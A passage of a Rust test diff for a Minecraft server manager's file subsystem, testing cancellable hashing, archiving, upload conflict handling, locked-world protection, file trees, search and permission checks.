+        assert_completed_by(&events, &caused_by, true);
+        let kinds: Vec<_> = events
+            .iter()
+            .map(|event| match &event.event_inner {
+                crate::events::EventInner::ProgressionEvent(progression) => {
+                    match progression.progression_event_inner() {
+                        crate::events::ProgressionEventInner::ProgressionStart { .. } => "start",
+                        crate::events::ProgressionEventInner::ProgressionUpdate { .. } => "update",
+                        crate::events::ProgressionEventInner::ProgressionEnd { .. } => "end",
+                    }
+                }
+                _ => panic!("expected a progression event"),
+            })
+            .collect();
+        assert_eq!(kinds.first(), Some(&"start"));
+        assert!(kinds.contains(&"update"));
+        // the operation is unregistered once done
+        assert!(sessions.sessions.lock().unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_client_disconnect_cancels_hash() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("world.zip");
+        // sparse, it takes seconds to hash but nothing to create
+        let size = 4 * 1024 * 1024 * 1024;
+        std::fs::File::create(&path).unwrap().set_len(size).unwrap();
+        let owner = UserId::from("owner".to_string());
+        let caused_by = CausedBy::User {
+            user_id: owner.clone(),
+            user_name: "owner".to_string(),
+        };
+        let sessions = UploadSessions::default();
+        let (event_broadcaster, mut rx) = crate::event_broadcaster::EventBroadcaster::new(1024);
+
+        let hashing = hash_and_report(
+            event_broadcaster,
+            &sessions,
+            path,
+            size,
+            HashAlgorithm::Sha256,
+            InstanceUuid::from("instance".to_string()),
+            owner,
+            caused_by.clone(),
+        );
+        // the request is dropped before the hash is done
+        assert!(
+            tokio::time::timeout(std::time::Duration::from_millis(100), hashing)
+                .await
+                .is_err()
+        );
+
+        let events = progression_events(&mut rx).await;
+        assert_completed_by(&events, &caused_by, false);
+    }
+
+    #[test]
+    fn test_cancel_hash_mid_file() {
+        let uuid = InstanceUuid::from("instance".to_string());
+        let owner = UserId::from("owner".to_string());
+        let sessions = UploadSessions::default();
+        let (_, event_id) =
+            Event::new_progression_event_start("Computing checksum", None, None, CausedBy::System);
+        let session = sessions.register(event_id.inner(), uuid.clone(), owner.clone());
+
+        // the client cancels once a few chunks have been hashed
+        let mut hashed = 0;
+        let reader = std::io::Read::take(std::io::repeat(7), 64 * HASH_CHUNK_SIZE as u64);
+        let e = hash_reader(
+            reader,
+            HashAlgorithm::Sha1,
+            &session.cancel,
+            &mut |chunk_len| {
+                hashed += chunk_len;
+                if hashed >= 3 * HASH_CHUNK_SIZE as u64 {
+                    sessions.cancel(event_id.inner(), &uuid, &owner).unwrap();
+                }
+            },
+        )
+        .unwrap_err();
+        assert!(matches!(e.kind, ErrorKind::Conflict));
+        assert!(e.to_string().contains("cancelled"));
+        assert!(hashed < 64 * HASH_CHUNK_SIZE as u64);
+
+        let digest = hash_reader(
+            &b"eula=true\n"[..],
+            HashAlgorithm::Sha1,
+            &CancellationToken::new(),
+            &mut |_| {},
+        )
+        .unwrap();
+        assert_eq!(digest.len(), 40);
+    }
+
+    #[tokio::test]
+    async fn test_hash_algorithms_and_missing_files() {
+        for (algorithm, expected) in [
+            (HashAlgorithm::Md5, "cc735350911aa7ecf615d4194f382d64"),
+            (
+                HashAlgorithm::Sha1,
+                "2df51f289e286faa8a42ef6d2b7c2e10b9c3bfb8",
+            ),
+            (
+                HashAlgorithm::Sha256,
+                "ee27072e4a23e088522f740ddaab0c7c4145c186969e90a86254faa3a5ec5ce6",
+            ),
+        ] {
+            let digest = hash_reader(
+                &b"eula=true\n"[..],
+                algorithm,
+                &CancellationToken::new(),
+                &mut |_| {},
+            )
+            .unwrap();
+            assert_eq!(digest, expected, "{algorithm:?}");
+        }
+        assert_eq!(
+            serde_json::from_str::<HashAlgorithm>("\"md5\"").unwrap(),
+            HashAlgorithm::Md5
+        );
+
+        let temp = tempfile::tempdir().unwrap();
+        std::fs::write(temp.path().join("eula.txt"), "eula=true\n").unwrap();
+        assert_eq!(
+            hashable_file_size(&temp.path().join("eula.txt"))
+                .await
+                .unwrap(),
+            10
+        );
+        for path in [temp.path().to_path_buf(), temp.path().join("missing.jar")] {
+            let e = hashable_file_size(&path).await.unwrap_err();
+            assert!(matches!(e.kind, ErrorKind::NotFound));
+        }
+    }
+
+    #[tokio::test]
+    async fn test_background_fs_operations_are_attributed() {
+        let temp_lodestone_path = tempfile::tempdir().unwrap();
+        init_paths(temp_lodestone_path.path().to_path_buf());
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        std::fs::write(root.join("world/level.dat"), b"level").unwrap();
+        let uuid = InstanceUuid::from("INSTANCE_attributed".to_string());
+        let caused_by = CausedBy::User {
+            user_id: UserId::from("USER_alice".to_string()),
+            user_name: "alice".to_string(),
+        };
+        let (event_broadcaster, mut rx) = EventBroadcaster::new(64);
+
+        let archive = root.join("world.zip");
+        zip_and_report(
+            event_broadcaster.clone(),
+            FsOpLimiter::default(),
+            UploadSessions::default(),
+            uuid.clone(),
+            UserId::from("USER_alice".to_string()),
+            caused_by.clone(),
+            vec![root.join("world")],
+            archive.clone(),
+        )
+        .await;
+        let events = progression_events(&mut rx).await;
+        // the bytes compressed are reported out of the size of the files zipped
+        let progress: Vec<_> = events
+            .iter()
+            .filter_map(|event| match &event.event_inner {
+                crate::events::EventInner::ProgressionEvent(progression) => {
+                    match progression.progression_event_inner() {
+                        crate::events::ProgressionEventInner::ProgressionStart {
+                            total, ..
+                        } => Some(("start", *total)),
+                        crate::events::ProgressionEventInner::ProgressionUpdate {
+                            progress,
+                            ..
+                        } => Some(("update", Some(*progress))),
+                        _ => None,
+                    }
+                }
+                _ => None,
+            })
+            .collect();
+        assert_eq!(progress, vec![("start", Some(5.0)), ("update", Some(5.0))]);
+        // the archive itself is reported as created
+        assert!(events
+            .iter()
+            .any(|event| matches!(&event.event_inner, crate::events::EventInner::FSEvent(_))));
+        assert_completed_by(&events, &caused_by, true);
+
+        unzip_and_report(
+            event_broadcaster.clone(),
+            FsOpLimiter::default(),
+            UploadSessions::default(),
+            uuid.clone(),
+            UserId::from("USER_alice".to_string()),
+            caused_by.clone(),
+            archive,
+            "world.zip".to_string(),
+            UnzipOption::ToDir(root.join("restored")),
+        )
+        .await;
+        assert_completed_by(&progression_events(&mut rx).await, &caused_by, true);
+        assert!(root.join("restored/world/level.dat").exists());
+
+        // failures are attributed too
+        unzip_and_report(
+            event_broadcaster,
+            FsOpLimiter::default(),
+            UploadSessions::default(),
+            uuid,
+            UserId::from("USER_alice".to_string()),
+            caused_by.clone(),
+            root.join("missing.zip"),
+            "missing.zip".to_string(),
+            UnzipOption::Normal,
+        )
+        .await;
+        assert_completed_by(&progression_events(&mut rx).await, &caused_by, false);
+    }
+
+    #[tokio::test]
+    async fn test_cross_device_move_reports_progress() {
+        let temp_lodestone_path = tempfile::tempdir().unwrap();
+        init_paths(temp_lodestone_path.path().to_path_buf());
+        let (instance_disk, mounted_disk) =
+            (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+        let source = instance_disk.path().join("world");
+        std::fs::create_dir_all(source.join("region")).unwrap();
+        std::fs::write(source.join("level.dat"), b"level").unwrap();
+        std::fs::write(source.join("region/r.0.0.mca"), vec![7_u8; 64 * 1024]).unwrap();
+        let dest = mounted_disk.path().join("world");
+        let uuid = InstanceUuid::from("INSTANCE_mounted".to_string());
+        let caused_by = CausedBy::User {
+            user_id: UserId::from("USER_alice".to_string()),
+            user_name: "alice".to_string(),
+        };
+        let (event_broadcaster, mut rx) = EventBroadcaster::new(64);
+        assert!(is_cross_device(&std::io::Error::from_raw_os_error(
+            if cfg!(windows) { 17 } else { 18 }
+        )));
+
+        move_across_devices_and_report(
+            event_broadcaster,
+            FsOpLimiter::default(),
+            &UploadSessions::default(),
+            uuid,
+            UserId::from("USER_alice".to_string()),
+            caused_by.clone(),
+            source.clone(),
+            dest.clone(),
+        )
+        .await
+        .unwrap();
+        let events = progression_events(&mut rx).await;
+        assert_completed_by(&events, &caused_by, true);
+        assert!(events.iter().any(|event| matches!(
+            &event.event_inner,
+            crate::events::EventInner::ProgressionEvent(progression)
+                if matches!(
+                    progression.progression_event_inner(),
+                    crate::events::ProgressionEventInner::ProgressionUpdate { .. }
+                )
+        )));
+        assert!(!source.exists());
+        assert_eq!(
+            std::fs::read(dest.join("region/r.0.0.mca")).unwrap(),
+            vec![7_u8; 64 * 1024]
+        );
+    }
+
+    #[tokio::test]
+    async fn test_fs_operations_queue_past_instance_limit() {
+        let temp_lodestone_path = tempfile::tempdir().unwrap();
+        init_paths(temp_lodestone_path.path().to_path_buf());
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path().to_path_buf();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        std::fs::write(root.join("world/level.dat"), b"level").unwrap();
+        let uuid = InstanceUuid::from("INSTANCE_slow".to_string());
+        let caused_by = CausedBy::User {
+            user_id: UserId::from("USER_alice".to_string()),
+            user_name: "alice".to_string(),
+        };
+        let (event_broadcaster, mut rx) = EventBroadcaster::new(64);
+        let fs_op_limiter = FsOpLimiter::default();
+        fs_op_limiter.set_limits(
+            uuid.clone(),
+            FsOpLimits {
+                max_concurrent_fs_ops: Some(1),
+            },
+        );
+        // another operation is holding the only slot
+        let running = fs_op_limiter.acquire(&uuid, || {}).await.unwrap();
+
+        let zip = tokio::spawn(zip_and_report(
+            event_broadcaster,
+            fs_op_limiter.clone(),
+            UploadSessions::default(),
+            uuid,
+            UserId::from("USER_alice".to_string()),
+            caused_by.clone(),
+            vec![root.join("world")],
+            root.join("world.zip"),
+        ));
+        let _start = rx.recv().await.unwrap();
+        let queued = rx.recv().await.unwrap();
+        assert!(matches!(
+            &queued.event_inner,
+            crate::events::EventInner::ProgressionEvent(progression)
+                if matches!(
+                    progression.progression_event_inner(),
+                    crate::events::ProgressionEventInner::ProgressionUpdate { progress_message, .. }
+                        if progress_message.starts_with("Queued")
+                )
+        ));
+        assert!(!root.join("world.zip").exists());
+
+        drop(running);
+        zip.await.unwrap();
+        assert_completed_by(&progression_events(&mut rx).await, &caused_by, true);
+        assert!(root.join("world.zip").exists());
+    }
+
+    #[tokio::test]
+    async fn test_abort_all_operations_of_instance() {
+        let temp_lodestone_path = tempfile::tempdir().unwrap();
+        init_paths(temp_lodestone_path.path().to_path_buf());
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path().to_path_buf();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        std::fs::write(root.join("world/level.dat"), b"level").unwrap();
+        zip_files(&[root.join("world")], root.join("backup.zip"), false).unwrap();
+        let uuid = InstanceUuid::from("INSTANCE_stuck".to_string());
+        let caused_by = CausedBy::User {
+            user_id: UserId::from("USER_alice".to_string()),
+            user_name: "alice".to_string(),
+        };
+        let (event_broadcaster, mut rx) = EventBroadcaster::new(64);
+        let sessions = UploadSessions::default();
+        let fs_op_limiter = FsOpLimiter::default();
+        fs_op_limiter.set_limits(
+            uuid.clone(),
+            FsOpLimits {
+                max_concurrent_fs_ops: Some(1),
+            },
+        );
+        // a stuck operation is holding the only slot, the others queue behind it
+        let _stuck = fs_op_limiter.acquire(&uuid, || {}).await.unwrap();
+        let (_, other_event_id) =
+            Event::new_progression_event_start("Uploading files", None, None, CausedBy::System);
+        let other_instance = sessions.register(
+            other_event_id.inner(),
+            InstanceUuid::from("INSTANCE_other".to_string()),
+            UserId::from("USER_bob".to_string()),
+        );
+
+        let zip = tokio::spawn(zip_and_report(
+            event_broadcaster.clone(),
+            fs_op_limiter.clone(),
+            sessions.clone(),
+            uuid.clone(),
+            UserId::from("USER_alice".to_string()),
+            caused_by.clone(),
+            vec![root.join("world")],
+            root.join("world.zip"),
+        ));
+        let unzip = tokio::spawn(unzip_and_report(
+            event_broadcaster,
+            fs_op_limiter,
+            sessions.clone(),
+            uuid.clone(),
+            UserId::from("USER_bob".to_string()),
+            caused_by.clone(),
+            root.join("backup.zip"),
+            "backup.zip".to_string(),
+            UnzipOption::ToDir(root.join("restored")),
+        ));
+        let mut queued = 0;
+        while queued < 2 {
+            if let crate::events::EventInner::ProgressionEvent(progression) =
+                rx.recv().await.unwrap().event_inner
+            {
+                if matches!(
+                    progression.progression_event_inner(),
+                    crate::events::ProgressionEventInner::ProgressionUpdate { .. }
+                ) {
+                    queued += 1;
+                }
+            }
+        }
+
+        assert_eq!(sessions.cancel_all(&uuid), 2);
+        zip.await.unwrap();
+        unzip.await.unwrap();
+        let ends: Vec<_> = [rx.recv().await.unwrap(), rx.recv().await.unwrap()]
+            .into_iter()
+            .map(|event| match event.event_inner {
+                crate::events::EventInner::ProgressionEvent(progression) => {
+                    match progression.progression_event_inner() {
+                        crate::events::ProgressionEventInner::ProgressionEnd {
+                            success,
+                            message,
+                            ..
+                        } => (*success, message.clone().unwrap_or_default()),
+                        _ => panic!("expected the end of the operation"),
+                    }
+                }
+                _ => panic!("expected a progression event"),
+            })
+            .collect();
+        for (success, message) in ends {
+            assert!(!success);
+            assert!(message.contains("cancelled"), "{message}");
+        }
+        assert!(!root.join("world.zip").exists());
+        assert!(!root.join("restored").exists());
+        // only the operations of the instance are cancelled, and unregistered once stopped
+        assert!(!other_instance.cancel.is_cancelled());
+        assert_eq!(sessions.sessions.lock().unwrap().len(), 1);
+    }
+
+    #[test]
+    fn test_upload_conflict_policy() {
+        let temp = tempfile::tempdir().unwrap();
+        let existing = temp.path().join("whitelist.json");
+        std::fs::write(&existing, "[]").unwrap();
+
+        assert_eq!(
+            upload_destination(existing.clone(), UploadConflictPolicy::Rename, false).unwrap(),
+            temp.path().join("whitelist_1.json")
+        );
+        assert_eq!(
+            upload_destination(existing.clone(), UploadConflictPolicy::Overwrite, false).unwrap(),
+            existing
+        );
+        let err =
+            upload_destination(existing.clone(), UploadConflictPolicy::Fail, false).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+
+        // no conflict, every policy writes to the requested path
+        let fresh = temp.path().join("ops.json");
+        for policy in [
+            UploadConflictPolicy::Rename,
+            UploadConflictPolicy::Overwrite,
+            UploadConflictPolicy::Fail,
+        ] {
+            assert_eq!(
+                upload_destination(fresh.clone(), policy, false).unwrap(),
+                fresh
+            );
+        }
+
+        assert_eq!(
+            "Overwrite".parse::<UploadConflictPolicy>().unwrap(),
+            UploadConflictPolicy::Overwrite
+        );
+        assert!("replace".parse::<UploadConflictPolicy>().is_err());
+        assert_eq!(
+            UploadConflictPolicy::default(),
+            UploadConflictPolicy::Rename
+        );
+    }
+
+    #[tokio::test]
+    async fn test_locked_instance_keeps_worlds_and_large_dirs() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        let worlds = vec![root.join("world_nether"), root.join("world")];
+        std::fs::create_dir_all(root.join("world/region")).unwrap();
+        std::fs::create_dir_all(root.join("logs")).unwrap();
+        for i in 0..LOCKED_RMDIR_MAX_ENTRIES {
+            std::fs::write(root.join(format!("logs/{i}.log.gz")), "").unwrap();
+        }
+        std::fs::create_dir_all(root.join("crash-reports")).unwrap();
+
+        for path in [
+            root.join("world"),
+            root.join("world/region"),
+            root.join("logs"),
+        ] {
+            let err = check_locked_dir_removal(&worlds, &path).await.unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::Conflict));
+            assert!(err.to_string().contains("locked"));
+        }
+        check_locked_dir_removal(&worlds, &root.join("crash-reports"))
+            .await
+            .unwrap();
+        // files of the worlds can't be removed or moved either
+        let level_dat = root.join("world/level.dat");
+        let err = check_locked_worlds(&worlds, [level_dat.as_path()], "deleting").unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        assert!(
+            check_locked_worlds(&worlds, [root.join("logs/0.log.gz").as_path()], "deleting")
+                .is_ok()
+        );
+    }
+
+    #[test]
+    fn test_case_insensitive_upload_conflict() {
+        let temp = tempfile::tempdir().unwrap();
+        let existing = temp.path().join("Config.properties");
+        std::fs::write(&existing, "motd=A Minecraft Server").unwrap();
+        let upload = temp.path().join("config.properties");
+
+        // case-sensitive by default, both files can coexist
+        assert_eq!(
+            upload_destination(upload.clone(), UploadConflictPolicy::Fail, false).unwrap(),
+            upload
+        );
+
+        let err = upload_destination(upload.clone(), UploadConflictPolicy::Fail, true).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        assert!(err.to_string().contains("Config.properties"));
+        assert_eq!(
+            upload_destination(upload.clone(), UploadConflictPolicy::Overwrite, true).unwrap(),
+            existing
+        );
+        std::fs::write(temp.path().join("CONFIG_1.properties"), "").unwrap();
+        assert_eq!(
+            upload_destination(upload.clone(), UploadConflictPolicy::Rename, true).unwrap(),
+            temp.path().join("config_2.properties")
+        );
+    }
+
+    #[tokio::test]
+    async fn test_case_insensitive_upload_destination_is_checked() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::write(root.join("server.jar"), "jar").unwrap();
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+        let protected = ProtectedPaths::default();
+
+        // the name it was sent with passes, the file it would replace doesn't
+        let upload = root.join("SERVER.JAR");
+        assert!(!is_path_protected_for(&user, &protected, &upload));
+        let destination =
+            upload_destination(upload, UploadConflictPolicy::Overwrite, true).unwrap();
+        assert_eq!(destination, root.join("server.jar"));
+        let err = check_upload_destination(&user, root, &protected, &[], &[], false, &destination)
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+
+        std::fs::create_dir(root.join("world")).unwrap();
+        std::fs::write(root.join("world/level.dat"), "").unwrap();
+        let destination = upload_destination(
+            root.join("world/LEVEL.DAT"),
+            UploadConflictPolicy::Overwrite,
+            true,
+        )
+        .unwrap();
+        let worlds = [root.join("world")];
+        let err =
+            check_upload_destination(&user, root, &protected, &worlds, &[], false, &destination)
+                .await
+                .unwrap_err();
+        assert!(err.to_string().contains("world"));
+        let err =
+            check_upload_destination(&user, root, &protected, &[], &worlds, false, &destination)
+                .await
+                .unwrap_err();
+        assert!(err.to_string().contains("locked"));
+        check_upload_destination(&user, root, &protected, &[], &[], false, &destination)
+            .await
+            .unwrap();
+    }
+
+    #[test]
+    fn test_list_entries_carry_metadata() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir(root.join("mods")).unwrap();
+        std::fs::create_dir(root.join("world")).unwrap();
+        std::fs::write(root.join("server.jar"), "jar").unwrap();
+        std::fs::write(root.join("server.properties"), "server-port=25565\n").unwrap();
+        std::fs::write(root.join("server-icon.png"), [0x89, b'P', b'N', b'G']).unwrap();
+        std::fs::write(root.join("README"), "").unwrap();
+        let mut annotations = FileAnnotations::new();
+        annotations.insert("server.properties".to_string(), "prod config".to_string());
+
+        let mut entries: Vec<FileEntry> = std::fs::read_dir(root)
+            .unwrap()
+            .filter_map(|entry| {
+                instance_file_entry(
+                    root,
+                    &entry.unwrap().path(),
+                    &annotations,
+                    &ProtectedPaths::default(),
+                    false,
+                )
+            })
+            .collect();
+        entries.sort_by(|a, b| a.name.cmp(&b.name));
+        let summary: Vec<(&str, Option<u64>, Option<bool>, Option<&str>)> = entries
+            .iter()
+            .map(|entry| {
+                (
+                    entry.path.as_str(),
+                    entry.size,
+                    entry.is_protected,
+                    entry.mime_type.as_deref(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            summary,
+            vec![
+                (
+                    "README",
+                    Some(0),
+                    Some(true),
+                    Some("application/octet-stream")
+                ),
+                ("mods", None, Some(true), None),
+                ("server-icon.png", Some(4), Some(false), Some("image/png")),
+                (
+                    "server.jar",
+                    Some(3),
+                    Some(true),
+                    Some("application/java-archive")
+                ),
+                (
+                    "server.properties",
+                    Some(18),
+                    Some(false),
+                    Some("application/octet-stream")
+                ),
+                ("world", None, Some(false), None),
+            ]
+        );
+        assert!(entries
+            .iter()
+            .all(|entry| entry.modification_time.is_some()));
+        assert_eq!(entries[4].annotation.as_deref(), Some("prod config"));
+        assert_eq!(entries[1].file_type, FileType::Directory);
+
+        // users allowed to write global files bypass protection
+        let jar = instance_file_entry(
+            root,
+            &root.join("server.jar"),
+            &annotations,
+            &ProtectedPaths::default(),
+            true,
+        )
+        .unwrap();
+        assert_eq!(jar.is_protected, Some(false));
+        assert!(instance_file_entry(
+            root,
+            std::path::Path::new("/elsewhere"),
+            &annotations,
+            &ProtectedPaths::default(),
+            false
+        )
+        .is_none());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_non_utf8_names_are_listed() {
+        use std::os::unix::ffi::OsStrExt;
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        let name = std::ffi::OsStr::from_bytes(b"caf\xe9.yml");
+        if std::fs::write(root.join(name), "").is_err() {
+            // the filesystem enforces UTF-8 names
+            return;
+        }
+        let entry = instance_file_entry(
+            root,
+            &root.join(name),
+            &FileAnnotations::new(),
+            &ProtectedPaths::default(),
+            false,
+        )
+        .unwrap();
+        assert_eq!(entry.path, "caf\u{FFFD}.yml");
+        assert_eq!(entry.name, "caf\u{FFFD}.yml");
+        assert_eq!(entry.extension.as_deref(), Some("yml"));
+    }
+
+    #[test]
+    fn test_list_flags_case_collisions() {
+        let temp = tempfile::tempdir().unwrap();
+        for name in ["Config.properties", "config.properties", "ops.json"] {
+            std::fs::write(temp.path().join(name), "").unwrap();
+        }
+        let entries: Vec<FileEntry> = std::fs::read_dir(temp.path())
+            .unwrap()
+            .map(|entry| entry.unwrap().path().as_path().into())
+            .collect();
+        if entries.len() < 3 {
+            // the filesystem is case-insensitive, the names can't coexist
+            return;
+        }
+        let mut flagged: Vec<(String, bool)> = mark_case_collisions(entries)
+            .into_iter()
+            .map(|entry| (entry.name, entry.case_collision))
+            .collect();
+        flagged.sort();
+        assert_eq!(
+            flagged,
+            vec![
+                ("Config.properties".to_string(), true),
+                ("config.properties".to_string(), true),
+                ("ops.json".to_string(), false),
+            ]
+        );
+    }
+
+    fn child<'a>(nodes: &'a [FileTreeNode], name: &str) -> &'a FileTreeNode {
+        nodes.iter().find(|n| n.entry.name == name).unwrap()
+    }
+
+    #[test]
+    fn test_file_tree_nesting_and_depth() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("world/region/deep")).unwrap();
+        std::fs::write(root.join("server.properties"), "").unwrap();
+        std::fs::write(root.join("world/level.dat"), "").unwrap();
+        std::fs::write(root.join("world/region/r.0.0.mca"), "").unwrap();
+
+        let tree = build_file_tree(root, root, 2, MAX_TREE_NODES);
+        assert!(!tree.truncated);
+        assert_eq!(tree.entries.len(), 2);
+        assert!(child(&tree.entries, "server.properties").children.is_none());
+        let world = child(&tree.entries, "world");
+        let world_children = world.children.as_ref().unwrap();
+        assert_eq!(world_children.len(), 2);
+        assert_eq!(
+            child(world_children, "level.dat").entry.path,
+            "world/level.dat"
+        );
+        // region is at the depth limit so its content isn't listed
+        assert!(child(world_children, "region").children.is_none());
+
+        let tree = build_file_tree(root, root, 3, MAX_TREE_NODES);
+        let world = child(&tree.entries, "world");
+        let region = child(world.children.as_ref().unwrap(), "region");
+        let region_children = region.children.as_ref().unwrap();
+        assert_eq!(region_children.len(), 2);
+        assert!(child(region_children, "deep").children.is_none());
+
+        // listing a subdirectory keeps paths relative to the instance root
+        let tree = build_file_tree(root, &root.join("world"), 1, MAX_TREE_NODES);
+        assert_eq!(child(&tree.entries, "region").entry.path, "world/region");
+    }
+
+    #[test]
+    fn test_search_by_name_and_content() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("config/sodium")).unwrap();
+        std::fs::create_dir_all(root.join("mods")).unwrap();
+        std::fs::write(root.join("server.properties"), "view-distance=10\n").unwrap();
+        std::fs::write(
+            root.join("config/sodium/options.json"),
+            r#"{"View-Distance": 12}"#,
+        )
+        .unwrap();
+        std::fs::write(root.join("config/view-distance.toml"), "enabled = true\n").unwrap();
+        std::fs::write(root.join("mods/view-distance-fix.jar"), "view-distance").unwrap();
+        std::fs::write(root.join("config/region.bin"), b"view-distance\0").unwrap();
+        let annotations = FileAnnotations::default();
+        let search = |request: SearchRequest, bypass_protection: bool| {
+            search_dir(
+                root,
+                root,
+                &request,
+                &annotations,
+                &ProtectedPaths::default(),
+                bypass_protection,
+                MAX_SEARCH_SCANNED_BYTES,
+            )
+            .unwrap()
+            .into_iter()
+            .map(|entry| entry.path)
+            .collect::<Vec<_>>()
+        };
+        let request = |query: &str| SearchRequest {
+            query: query.to_string(),
+            glob: None,
+            case_sensitive: false,
+            target: SearchTarget::NamesAndContents,
+            max_results: None,
+        };
+
+        // binary files aren't matched on content, protected ones are left out
+        assert_eq!(
+            search(request("view-distance"), false),
+            vec![
+                "config/sodium/options.json",
+                "config/view-distance.toml",
+                "server.properties",
+            ]
+        );
+        assert!(search(request("view-distance"), true)
+            .contains(&"mods/view-distance-fix.jar".to_string()));
+        assert_eq!(
+            search(
+                SearchRequest {
+                    case_sensitive: true,
+                    ..request("view-distance")
+                },
+                false
+            ),
+            vec!["config/view-distance.toml", "server.properties"]
+        );
+        assert_eq!(
+            search(
+                SearchRequest {
+                    target: SearchTarget::Names,
+                    ..request("view-distance")
+                },
+                false
+            ),
+            vec!["config/view-distance.toml"]
+        );
+        assert_eq!(
+            search(
+                SearchRequest {
+                    glob: Some("*.json".to_string()),
+                    ..request("distance")
+                },
+                false
+            ),
+            vec!["config/sodium/options.json"]
+        );
+        assert_eq!(
+            search(
+                SearchRequest {
+                    glob: Some("config/*".to_string()),
+                    ..request("distance")
+                },
+                false
+            ),
+            vec!["config/view-distance.toml"]
+        );
+        assert_eq!(
+            search(
+                SearchRequest {
+                    max_results: Some(1),
+                    ..request("view-distance")
+                },
+                false
+            )
+            .len(),
+            1
+        );
+
+        // the budget runs out with options.json, right after region.bin
+        let matches = search_dir(
+            root,
+            root,
+            &request("view-distance"),
+            &annotations,
+            &ProtectedPaths::default(),
+            false,
+            15,
+        )
+        .unwrap();
+        assert_eq!(matches.len(), 1);
+    }
+
+    #[test]
+    fn test_dir_size_counts_files_and_directories() {
+        let temp = tempfile::tempdir().unwrap();
+        let world = temp.path().join("world");
+        std::fs::create_dir_all(world.join("region")).unwrap();
+        std::fs::create_dir_all(world.join("playerdata")).unwrap();
+        std::fs::write(world.join("level.dat"), vec![1_u8; 1000]).unwrap();
+        std::fs::write(world.join("region/r.0.0.mca"), vec![7_u8; 3 * 1024 * 1024]).unwrap();
+
+        assert_eq!(
+            dir_size(&world),
+            DirSize {
+                total_bytes: 1000 + 3 * 1024 * 1024,
+                total_size: "3 MB".to_string(),
+                file_count: 2,
+                dir_count: 2,
+            }
+        );
+        let empty = dir_size(&world.join("playerdata"));
+        assert_eq!(
+            (empty.total_bytes, empty.file_count, empty.dir_count),
+            (0, 0, 0)
+        );
+    }
+
+    #[test]
+    fn test_file_tree_node_limit() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        for i in 0..10 {
+            std::fs::write(root.join(format!("{i}.txt")), "").unwrap();
+        }
+        let tree = build_file_tree(root, root, 1, 4);
+        assert!(tree.truncated);
+        assert_eq!(tree.entries.len(), 4);
+    }
+
+    #[test]
+    fn test_instances_file_tree_requires_global_read() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let instances = temp.path();
+        std::fs::create_dir_all(instances.join("survival-1a2b/world")).unwrap();
+        std::fs::write(instances.join("survival-1a2b/world/level.dat"), "").unwrap();
+        std::fs::create_dir_all(instances.join("creative-3c4d/logs")).unwrap();
+        std::fs::write(instances.join("creative-3c4d/logs/latest.log"), "").unwrap();
+
+        // being an admin, or reading an instance's files, isn't enough to browse all of them
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_read_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = AuthorizedUser::new(
+            User::new("alice".to_string(), "password", false, true, permissions),
+            false,
+        );
+        let err = build_instances_file_tree(&user, instances, "", 3).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+
+        let mut permissions = UserPermission::new();
+        permissions.can_read_global_file = true;
+        let user = AuthorizedUser::new(
+            User::new("bob".to_string(), "password", false, false, permissions),
+            false,
+        );
+        let (_, tree) = build_instances_file_tree(&user, instances, "", 3).unwrap();
+        assert_eq!(tree.entries.len(), 2);
+        let survival = child(&tree.entries, "survival-1a2b");
+        let world = child(survival.children.as_ref().unwrap(), "world");
+        assert_eq!(
+            child(world.children.as_ref().unwrap(), "level.dat")
+                .entry
+                .path,
+            "survival-1a2b/world/level.dat"
+        );
+        let creative = child(&tree.entries, "creative-3c4d");
+        let logs = child(creative.children.as_ref().unwrap(), "logs");
+        assert_eq!(logs.children.as_ref().unwrap().len(), 1);
+
+        // descending into one instance, still contained to the instances root
+        let (_, tree) = build_instances_file_tree(&user, instances, "creative-3c4d", 1).unwrap();
+        assert_eq!(
+            child(&tree.entries, "logs").entry.path,
+            "creative-3c4d/logs"
+        );
+        let (path, _) = build_instances_file_tree(&user, instances, "../..", 1).unwrap();
+        assert!(path.starts_with(instances));
+    }
+
+    #[tokio::test]
+    async fn test_touch_file() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("reload.flag");
+
+        assert!(touch_file(&path).await.unwrap());
+        assert!(path.is_file());
+        assert_eq!(std::fs::metadata(&path).unwrap().len(), 0);
+
+        std::fs::write(&path, "keep me").unwrap();
+        let old_mtime = filetime::FileTime::from_unix_time(1_000_000, 0);
+        filetime::set_file_mtime(&path, old_mtime).unwrap();
+
+        assert!(!touch_file(&path).await.unwrap());
+        let new_mtime =
+            filetime::FileTime::from_last_modification_time(&std::fs::metadata(&path).unwrap());
